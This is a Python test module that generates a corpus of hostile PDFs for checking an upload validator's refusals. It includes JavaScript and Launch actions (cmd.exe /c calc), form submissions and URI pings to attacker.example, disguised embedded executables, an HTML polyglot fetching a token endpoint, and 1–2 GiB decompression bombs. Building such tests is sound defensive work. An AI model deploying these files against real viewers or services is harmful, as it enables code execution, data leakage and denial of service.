"""A corpus of hostile PDFs, made here byte by byte (nothing is downloaded).

Each entry is a file an attacker could upload as evidence, with the words the refusal must use.
``python -m tests.evidence.hostile DIR`` writes them out, to try them on a PDF viewer.
"""

from __future__ import annotations

import sys
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object's body: its dictionary (without /Length) and its bytes as stored."""
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


def document(
    objects: Sequence[bytes],
    *,
    packed: Sequence[bytes] = (),
    header: bytes = HEADER,
    root: int = 1,
    object_stream: bytes | None = None,
) -> bytes:
    """A PDF of the objects numbered from 1 (``root`` is the catalog).

    ``packed`` objects are numbered after them and stored compressed in one object stream (or
    claimed to be, in ``object_stream`` as given), found through a cross-reference stream; without
    them the file has a classic xref table.
    """
    out, offsets = bytearray(header), {}

    def write(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    for number, body in enumerate(objects, start=1):
        write(number, body)
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in sorted(offsets))
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
        return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref)
    first_packed = len(objects) + 1
    numbers = range(first_packed, first_packed + len(packed))
    bodies, index = b"", b""
    for number, body in zip(numbers, packed, strict=True):
        index += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    stream_number = first_packed + len(packed)
    write(
        stream_number,
        object_stream
        or stream(
            b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(index)),
            zlib.compress(index + bodies),
        ),
    )
    size = stream_number + 2
    rows = b"\x00" + b"\x00" * 4 + b"\xff\xff"
    for number in range(1, size):
        if number in offsets or number == size - 1:
            offset = offsets.get(number, len(out))
            rows += b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x02" + stream_number.to_bytes(4, "big")
            rows += (number - first_packed).to_bytes(2, "big")
    write(size - 1, stream(b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (size, root), rows))
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % offsets[size - 1])


def one_page(catalog_extra: bytes = b"", page: bytes = PAGE, more: Sequence[bytes] = ()) -> bytes:
    """A one-page PDF whose catalog and page carry what a test adds; further objects from 4."""
    return document([b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra, PAGES, page, *more])


def zeros_deflated(size: int) -> bytes:
    """A zlib stream of ``size`` zero bytes, built from one repeated block (size: MiB multiple)."""
    chunk = 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b grows by 1 a byte
    return b"\x78\xda" + block * (size // chunk) + end + adler.to_bytes(4, "big")


def _javascript_on_open() -> bytes:
    return one_page(b"/OpenAction 4 0 R", more=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])


def _javascript_name_tree() -> bytes:
    return one_page(
        b"/Names << /JavaScript << /Names [(run) 4 0 R] >> >>",
        more=[b"<< /S /JavaScript /JS (this.print\\(\\)) >>"],
    )


def _hex_escaped_javascript() -> bytes:
    return one_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def _packed_link(action: bytes) -> bytes:
    """A page whose link's action sits compressed in an object stream, out of sight of the bytes."""
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
        ],
        packed=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A %s >>" % action],
    )


def _javascript_in_object_stream() -> bytes:
    return _packed_link(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def _launch_in_object_stream() -> bytes:
    return _packed_link(b"<< /S /Launch /F (cmd.exe) >>")


def _form_sent_elsewhere() -> bytes:
    return _packed_link(b"<< /S /SubmitForm /F (https://attacker.example/) >>")


def _page_additional_actions() -> bytes:
    return one_page(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/AA << /O << /S /URI /URI (https://attacker.example/seen) >> >> >>"
    )


def _open_action_to_a_website() -> bytes:
    return one_page(b"/OpenAction << /S /URI /URI (https://attacker.example/) >>")


def _launch_from_a_link() -> bytes:
    return one_page(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
        more=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
        ],
    )


def _embedded_file() -> bytes:
    return one_page(
        b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
        more=[
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
            stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really a program"),
        ],
    )


def _file_attachment_annotation() -> bytes:
    return one_page(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
        more=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
            b"<< /Type /Filespec /F (payload.js) /EF << /F 6 0 R >> >>",
            stream(b"/Type /EmbeddedFile", b"app.alert(1)"),
        ],
    )


def _xfa_form() -> bytes:
    return one_page(
        b"/AcroForm << /Fields [] /XFA 4 0 R >>",
        more=[stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")],
    )


def _html_polyglot() -> bytes:
    html = b"%<html><body><script>fetch('/api/v1/auth/token/')</script></body></html>\n"
    return document(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE], header=b"%PDF-1.7\n" + html
    )


def _ten_thousand_pages() -> bytes:
    count = 10_000
    kids = b" ".join(b"%d 0 R" % n for n in range(3, 3 + count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            *[page] * count,
        ]
    )


def _deflate_bomb() -> bytes:
    """About 2 MB on disk, 2 GiB of page content once inflated."""
    content = stream(b"/Filter /FlateDecode", zeros_deflated(2 * 1024**3))
    return one_page(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        more=[content],
    )


def _deflate_bomb_behind_a_reference() -> bytes:
    """The filter named through a reference, as if that hid what the stream inflates to."""
    content = stream(b"/Filter 5 0 R", zeros_deflated(512 * 1024**2))
    return one_page(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        more=[content, b"/FlateDecode"],
    )


def _deep_page_tree() -> bytes:
    depth = 150
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 %s>>"
        % (n + 1, b"/Parent %d 0 R " % (n - 1) if n > 2 else b"")
        for n in range(2, 2 + depth)
    ]
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth + 1)
    return document([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf])


def _object_stream_declaring_millions() -> bytes:
    index = b"".join(b"%d 0 " % n for n in range(4, 200_004))
    bomb = stream(
        b"/Type /ObjStm /N 20000000 /First %d /Filter /FlateDecode" % len(index),
        zlib.compress(index + b"null " * 200_000),
    )
    return one_page(b"/Bomb 4 0 R", more=[bomb])


def _object_stream_bomb() -> bytes:
    """The catalog itself sits in an object stream that inflates to a gigabyte."""
    return document(
        [b"<< /Type /Pages /Kids [] /Count 0 >>"],
        packed=[b"<< /Type /Catalog /Pages 1 0 R >>"],
        root=2,
        object_stream=stream(
            b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros_deflated(1024**3)
        ),
    )


def _two_million_kids() -> bytes:
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 2000000 >>" % (b"3 0 R " * 2_000_000),
            PAGE,
        ]
    )


def _deeply_nested_arrays() -> bytes:
    return one_page(b"/Nest " + b"[" * 5000 + b"]" * 5000)


def _cyclic_page_tree() -> bytes:
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        ]
    )


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    reason: str  # words the refusal shown to the uploader contains


CORPUS: dict[str, Hostile] = {
    # Issue 18, finding 4: active content, a polyglot, too many pages, a decompression bomb.
    "javascript-on-open": Hostile(_javascript_on_open, "JavaScript"),
    "javascript-name-tree": Hostile(_javascript_name_tree, "JavaScript"),
    "hex-escaped-javascript": Hostile(_hex_escaped_javascript, "JavaScript"),
    "javascript-in-object-stream": Hostile(_javascript_in_object_stream, "JavaScript"),
    "page-additional-actions": Hostile(_page_additional_actions, "/AA"),
    "open-action-to-a-website": Hostile(_open_action_to_a_website, "opened"),
    "launch-from-a-link": Hostile(_launch_from_a_link, "launches"),
    "launch-in-object-stream": Hostile(_launch_in_object_stream, "launches"),
    "form-sent-elsewhere": Hostile(_form_sent_elsewhere, "sends data"),
    "embedded-file": Hostile(_embedded_file, "embedded file"),
    "file-attachment-annotation": Hostile(_file_attachment_annotation, "embedded file"),
    "xfa-form": Hostile(_xfa_form, "XFA"),
    "html-polyglot": Hostile(_html_polyglot, "HTML"),
    "ten-thousand-pages": Hostile(_ten_thousand_pages, "pages"),
    "deflate-bomb-2-gib": Hostile(_deflate_bomb, "decompress"),
    "deflate-bomb-behind-a-reference": Hostile(_deflate_bomb_behind_a_reference, "decompress"),
    # Finding 5: structures that crashed the parser.
    "page-tree-150-deep": Hostile(_deep_page_tree, "nested"),
    "object-stream-declaring-millions": Hostile(_object_stream_declaring_millions, "objects"),
    "object-stream-bomb": Hostile(_object_stream_bomb, "too large or complex"),
    "two-million-kids": Hostile(_two_million_kids, "too large or complex"),
    "deeply-nested-arrays": Hostile(_deeply_nested_arrays, "nested"),
    "cyclic-page-tree": Hostile(_cyclic_page_tree, "page tree"),
}


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-pdfs")
    target.mkdir(parents=True, exist_ok=True)
    for name, hostile in CORPUS.items():
        (target / f"{name}.pdf").write_bytes(hostile.make())
        print(target / f"{name}.pdf")
